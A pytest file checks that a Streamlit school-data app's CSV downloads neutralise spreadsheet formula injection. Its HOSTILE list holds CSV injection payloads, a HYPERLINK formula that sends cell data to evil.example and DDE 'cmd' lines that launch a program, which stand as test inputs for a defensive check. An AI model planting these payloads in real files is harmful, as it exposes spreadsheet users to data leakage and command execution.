"""Every CSV the app offers is safe to open in a spreadsheet (issue 14, formula injection).

A session uploads Surrey's real KS4 file (it shadows the built-in copy for that session
only) with school names rewritten as spreadsheet formulas, then opens every page for Surrey,
and every tab of each. Every payload handed to a download button with a CSV type is
captured where Streamlit stores it (its media file storage; a CSV written only when asked
for is asked for) and read back as a spreadsheet would: no cell may start with =, +, -, @,
tab or CR unless it is a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from components import data, upload
from equity import private_layers
from equity.store import USER_STORE_ENV
from tests.browser.conftest import PAGE_LIST
from tests.pages.conftest import APP, open_section, open_show_data, section_labels

pytestmark = pytest.mark.page

ROOT = Path(__file__).resolve().parents[2]
SURREY_KS4 = ROOT / "data" / "sources" / "performance-tables" / "2018-2019_936_ks4final.csv"
SESSION_ID = "abcdef0123456789abcdef0123456789"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_surrey(folder: Path) -> Path:
    """Surrey's KS4 file with the first school rows' names replaced by formulas."""
    text = SURREY_KS4.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    name = rows[0].index("SCHNAME")
    changed = 0
    for row in rows[1:]:
        if row[0] == "1" and changed < len(HOSTILE):
            row[name] = HOSTILE[changed]
            changed += 1
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    path = folder / SURREY_KS4.name
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def captured(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str | None, bytes]]:
    """(file name, bytes) of every CSV a download button registers."""
    seen: list[tuple[str | None, bytes]] = []
    original = MemoryMediaFileStorage.load_and_get_id

    def recording(
        self: MemoryMediaFileStorage,
        path_or_data: str | bytes,
        mimetype: str,
        kind: object,
        filename: str | None = None,
    ) -> str:
        if mimetype.startswith("text/csv") and isinstance(path_or_data, bytes):
            seen.append((filename, path_or_data))
        return original(self, path_or_data, mimetype, kind, filename)  # type: ignore[arg-type]

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", recording)

    # A CSV written when asked for (a deferred download): asked for at once, as a click
    # would, so its bytes are checked like the rest.
    deferred = MediaFileManager.add_deferred

    def clicked(
        self: MediaFileManager,
        data_callable: Callable[[], Any],
        mimetype: str | None,
        coordinates: str,
        file_name: str | None = None,
        **kwargs: Any,
    ) -> str:
        if mimetype and mimetype.startswith("text/csv"):
            payload = data_callable()
            assert isinstance(payload, bytes), file_name
            seen.append((file_name, payload))
        return deferred(self, data_callable, mimetype, coordinates, file_name, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", clicked)
    return seen


def test_every_csv_download_neutralises_formula_text(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    captured: list[tuple[str | None, bytes]],
) -> None:
    monkeypatch.setenv(USER_STORE_ENV, str(tmp_path / "operator-store"))
    monkeypatch.setenv(private_layers.PRIVATE_ROOT_ENV, str(tmp_path / "private"))
    layer = private_layers.session_layer(SESSION_ID)
    report = upload.ingest_uploads(
        [upload.NamedBytes(SURREY_KS4.name, hostile_surrey(tmp_path).read_bytes())], layer
    )
    assert report.stored == [SURREY_KS4.name], report.problems

    for page in PAGE_LIST:
        app = AppTest.from_file(APP, default_timeout=180)
        app.session_state[data.SESSION_ID_KEY] = SESSION_ID
        app.query_params.update({"la": "936", "phase": "secondary", "year": "2018-19"})
        app.run()
        app.switch_page(page.path)
        app.run()
        assert not app.exception, (page.path, [e.value for e in app.exception])
        open_show_data(app)
        for label in section_labels(app)[1:]:  # every tab's downloads, each tab opened
            open_show_data(open_section(app, label))

    assert len(captured) >= 10, [name for name, _ in captured]
    hostile_cells = []
    for name, payload in captured:
        assert payload.startswith(b"\xef\xbb\xbf"), name
        for row in csv.reader(io.StringIO(payload[3:].decode("utf-8"))):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS) or is_number(cell), (name, cell)
                if cell.lstrip("'") in HOSTILE:
                    hostile_cells.append((name, cell))
    # The crafted names did reach downloads (school tables, maps, similar schools), quoted.
    assert hostile_cells, "no download carried a school name: the check would prove nothing"
    assert all(cell.startswith("'") for _, cell in hostile_cells)
    files = {name for name, _ in hostile_cells}
    assert any(name and "schools" in name for name in files), files
